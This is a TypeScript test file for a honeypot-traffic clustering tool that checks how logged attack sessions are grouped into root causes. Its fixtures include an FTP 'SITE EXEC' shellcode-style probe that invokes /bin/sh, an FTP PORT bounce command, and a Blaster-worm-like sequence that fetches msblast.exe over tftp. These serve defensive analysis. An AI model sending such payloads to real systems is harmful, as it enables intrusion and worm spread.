import { describe, expect, it } from 'vitest';

import { renderTemplate } from '#honeysift/causes/render-template.js';

import { causeOf, chance, familyOf, findCauses, inputOf, repeat, word } from './make-sources.js';

const random = chance(1);
const zeros = (bytes: number): string => `<${'00'.repeat(bytes)}>`;

describe('the cases of the report, section 3.2.3', () => {
  it('cluster 20: a random login is one field; the two anomalous attacks are taken out', async () => {
    const counts = { a: 1, b: 14, c: 1 };
    const login = (): string =>
      `USER anonymous\\r\\n||PASS ${word(random, 1, 1, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}gpuser@home.com\\r\\n||CWD /pub/\\r\\n`;
    const causes = await findCauses(
      inputOf([
        ...repeat(300, () => ({ sequence: '21', counts, phrase: login() })),
        { sequence: '21', counts, phrase: 'SITE EXEC %p%p%p||<9090909090>/bin/sh' },
        { sequence: '21', counts, phrase: 'PORT 6,6,6,66||LIST -aR' },
      ]),
    );
    expect([...causes.outliers]).toEqual([300, 301]);
    expect([...causes.rare]).toEqual([300, 301]);
    expect(causes.rootCauses).toHaveLength(1);
    expect(causes.rootCauses[0]?.rows).toHaveLength(300);
    expect(renderTemplate(causes.rootCauses[0]?.template ?? [])).toBe(
      'USER anonymous\\r\\n||PASS {A-Za-z:7}@home.com\\r\\n||CWD /pub/\\r\\n',
    );
  });

  it('clusters 9 and 11: 8 and 24 zero bytes are two tools', async () => {
    const counts = { a: 3, b: 3, c: 3 };
    const causes = await findCauses(
      inputOf([
        ...repeat(992, () => ({ sequence: '1433', counts, phrase: [24, 24, 24].map(zeros).join('||') })),
        ...repeat(8, () => ({ sequence: '1433', counts, phrase: [8, 8, 8].map(zeros).join('||') })),
      ]),
    );
    expect(causes.rootCauses.map(({ rows }) => rows.length).sort()).toEqual([8, 992]);
    expect(causes.families).toHaveLength(2);
    expect(causes.rare).toHaveLength(0);
  });

  it('payload and no payload at equal counts are two tools', async () => {
    const counts = { a: 3 };
    const causes = await findCauses(
      inputOf([
        ...repeat(40, () => ({ counts })),
        ...repeat(60, () => ({ counts, phrase: 'GET / HTTP/1.0\\r\\n\\r\\n' })),
      ]),
    );
    expect(causes.rootCauses.map(({ rows }) => rows.length).sort()).toEqual([40, 60]);
    expect(familyOf(causes, 0)?.familyId).not.toBe(familyOf(causes, 40)?.familyId);
  });

  it('cluster 5: variants of a worm with payload in the first packets are sub-clusters', async () => {
    const counts = { a: 6, b: 16, c: 4 };
    const worm = ['<05000b03>bind', '<05000003>request', 'tftp -i 10.0.0.1 GET msblast.exe\\n'];
    const phrase = (...first: string[]): string => [...first, ...worm, ...first, ...worm].join('||');
    const causes = await findCauses(
      inputOf([
        ...repeat(300, () => ({ sequence: '135,4444', counts, phrase: phrase() })),
        ...repeat(20, () => ({ sequence: '135,4444', counts, phrase: phrase('MEOW<0100000001020304>') })),
      ]),
    );
    expect(causes.rootCauses.map(({ rows }) => rows.length).sort()).toEqual([20, 300]);
    expect(causeOf(causes, 0)?.reason).toContain("300 of the cluster's 320 sources");
  });

  it('clusters 17 to 19: one, two and three bare packets are three tools when nothing is lost', async () => {
    const causes = await findCauses(
      inputOf(
        [1, 2, 3].flatMap((n) => repeat(100, () => ({ sequence: '17300', counts: { a: n, b: n, c: n } }))),
      ),
    );
    expect(causes.families).toHaveLength(3);
  });
});
